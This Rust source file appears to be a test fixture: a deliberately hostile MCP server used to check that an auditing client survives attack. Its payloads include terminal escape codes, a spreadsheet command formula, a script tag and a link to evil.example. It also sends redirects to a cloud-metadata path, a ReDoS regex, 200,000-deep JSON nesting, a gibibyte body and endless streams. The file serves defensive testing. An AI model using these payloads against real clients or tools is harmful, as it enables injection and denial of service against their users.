//! A server that attacks its auditor: lists without end, a body of a gibibyte, deep nesting, a slow drip, a stream that
//! never answers, redirects, and names made to break terminals and reports. One audit meets all of them.

use std::convert::Infallible;
use std::time::Duration;

use axum::Router;
use axum::body::{Body, Bytes, to_bytes};
use axum::extract::Request;
use axum::http::{Method, StatusCode, header};
use axum::response::{IntoResponse, Response};
use futures_util::{Stream, StreamExt as _, stream};
use serde_json::{Value, json};

use crate::http::answer_json;

/// Nothing listens there; whoever follows has gone where it must not.
const ELSEWHERE: &str = "http://127.0.0.1:1/latest/meta-data/";
/// Breaks terminals, Markdown, HTML, typst, spreadsheets and log viewers that take it for their own language.
const MARKUP: &str = "\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}=cmd|'/c x'!A1 <script>alert(1)</script> #panic(\"typst\") ```\u{202e}]($\\)\r\n\0";
const TOOLS_PER_PAGE: u64 = 20;
const GIBIBYTE: usize = 1 << 30;
const CHUNK: usize = 64 << 10;

pub(super) fn router() -> Router {
    Router::new().fallback(serve)
}

async fn serve(request: Request) -> Response {
    let (parts, body) = request.into_parts();
    if parts.method != Method::POST {
        let is_document = parts.uri.path().starts_with("/.well-known/");
        return if is_document { redirect() } else { stream_of("text/event-stream", notifications()) };
    }
    let body = to_bytes(body, 1 << 20).await.unwrap_or_default();
    let message: Value = serde_json::from_slice(&body).unwrap_or_default();
    let id = &message["id"];
    let result = |result: Value| answer_json(200, &json!({ "jsonrpc": "2.0", "id": id, "result": result }));
    match message["method"].as_str().unwrap_or_default() {
        "server/discover" => result(json!({
            "resultType": "complete",
            "supportedVersions": ["2026-07-28"],
            "capabilities": { "tools": {}, "prompts": {}, "resources": {} },
            "instructions": MARKUP.repeat(20),
            "ttlMs": 0,
            "cacheScope": "public",
            "_meta": { "io.modelcontextprotocol/serverInfo": { "name": MARKUP, "version": MARKUP } },
        })),
        "tools/list" => result(page(&message["params"]["cursor"])),
        // Deeper than any parser that recurses can go.
        "prompts/list" => {
            let deep = format!(
                "{{\"jsonrpc\":\"2.0\",\"id\":{id},\"result\":{{\"prompts\":{}{}}}}}",
                "[".repeat(200_000),
                "]".repeat(200_000)
            );
            ([(header::CONTENT_TYPE, "application/json")], deep).into_response()
        }
        "resources/list" => {
            let beginning = format!("{{\"jsonrpc\":\"2.0\",\"id\":{id},\"result\":{{\"resources\":[\"");
            let filling = Bytes::from(vec![b'a'; CHUNK]);
            let body = stream::once(async { Bytes::from(beginning) })
                .chain(stream::iter(0..GIBIBYTE / CHUNK).map(move |_| filling.clone()));
            stream_of("application/json", body)
        }
        "resources/templates/list" => stream_of("application/json", drip()),
        "tools/call" => stream_of("text/event-stream", notifications()),
        "resources/read" | "prompts/get" | "initialize" => redirect(),
        _ => (StatusCode::INTERNAL_SERVER_ERROR, format!("<html>{}", MARKUP.repeat(10_000))).into_response(),
    }
}

/// One of endlessly many pages, none like another.
fn page(cursor: &Value) -> Value {
    let number: u64 = cursor.as_str().and_then(|cursor| cursor.parse().ok()).unwrap_or_default();
    let tool = |index: u64| {
        let name = if number + index == 0 { "get_report".to_owned() } else { format!("get_{number}_{index}_{MARKUP}") };
        json!({
            "name": name,
            "title": MARKUP,
            "description": format!("Returns the report {number}. {MARKUP}"),
            "inputSchema": { "type": "object", "properties": { (MARKUP): { "type": "string", "pattern": "^(a+)+$" } } },
        })
    };
    json!({
        "resultType": "complete",
        "tools": (0..TOOLS_PER_PAGE).map(tool).collect::<Vec<_>>(),
        "nextCursor": (number + 1).to_string(),
        "ttlMs": -1,
        "cacheScope": MARKUP,
    })
}

fn redirect() -> Response {
    (StatusCode::TEMPORARY_REDIRECT, [(header::LOCATION, ELSEWHERE)]).into_response()
}

/// Notifications as fast as they are read, and never a response.
fn notifications() -> impl Stream<Item = Bytes> + Send {
    let event = format!(
        "data: {}\n\n",
        json!({ "jsonrpc": "2.0", "method": "notifications/message", "params": { "level": "info", "data": MARKUP } })
    );
    stream::repeat(Bytes::from(event))
}

/// A byte now and then: never idle, never done.
fn drip() -> impl Stream<Item = Bytes> + Send {
    stream::unfold((), |()| async {
        tokio::time::sleep(Duration::from_millis(200)).await;
        Some((Bytes::from_static(b" "), ()))
    })
}

fn stream_of(content_type: &'static str, body: impl Stream<Item = Bytes> + Send + 'static) -> Response {
    ([(header::CONTENT_TYPE, content_type)], Body::from_stream(body.map(Ok::<_, Infallible>))).into_response()
}
